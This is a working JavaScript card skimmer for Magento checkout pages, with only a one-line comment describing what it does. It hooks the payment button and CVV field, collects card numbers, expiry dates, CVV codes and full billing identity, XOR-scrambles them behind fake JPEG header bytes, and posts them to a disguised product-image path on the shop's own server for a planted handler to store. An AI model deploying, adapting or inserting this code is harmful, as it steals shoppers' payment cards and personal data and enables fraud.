// corpus note: XHR-POSTs XOR-scrambled card and billing data to a fake product image path on the shop's own server, where a planted handler appends it to a .jpg for later pickup
(function () {
  var DROP = "/media/catalog/product/cache/1/thumbnail/88x77/9df78eab33525d08d6e5fb8d27136e95/s/w/sw_logo_blank.jpg";
  var KEY = "mg2";
  var sent = false;

  function $(id) {
    var el = document.getElementById(id);
    return el ? String(el.value || "") : "";
  }

  function scramble(s) {
    var out = "";
    for (var i = 0; i < s.length; i++) {
      var c = s.charCodeAt(i) ^ KEY.charCodeAt(i % KEY.length);
      out += ("0" + c.toString(16)).slice(-2);
    }
    return out;
  }

  function grab() {
    return [
      $("authorizenet_cc_number") || $("ccsave_cc_number") || $("braintree_cc_number"),
      $("authorizenet_expiration") || $("ccsave_expiration"),
      $("authorizenet_expiration_yr") || $("ccsave_expiration_yr"),
      $("authorizenet_cc_cid") || $("ccsave_cc_cid") || $("braintree_cc_cid"),
      $("billing:firstname") + " " + $("billing:lastname"),
      $("billing:street1"),
      $("billing:city"),
      $("billing:region") || $("billing:region_id"),
      $("billing:postcode"),
      $("billing:country_id"),
      $("billing:telephone"),
      $("billing:email")
    ];
  }

  function post() {
    if (sent) return;
    var row = grab();
    if (row[0].replace(/[^0-9]/g, "").length < 13 || row[3].length < 3) return;
    sent = true;
    var xhr = new XMLHttpRequest();
    xhr.open("POST", DROP + "?_=" + new Date().getTime(), true);
    xhr.setRequestHeader("Content-Type", "image/jpeg");
    xhr.onreadystatechange = function () {
      if (xhr.readyState === 4 && xhr.status !== 200) sent = false;
    };
    xhr.send("\xff\xd8\xff\xe0" + scramble(row.join("\t")));
  }

  function wire() {
    var btn = document.querySelector("#payment-buttons-container button, #review-buttons-container button");
    if (btn) btn.addEventListener("click", post, false);
    var form = document.getElementById("co-payment-form");
    if (form) form.addEventListener("change", function (e) {
      if (/cid|cvv/i.test(e.target.id)) post();
    });
  }

  if (location.href.indexOf("onestepcheckout") > -1 || location.href.indexOf("checkout/onepage") > -1) {
    window.addEventListener("load", wire);
  }
})();
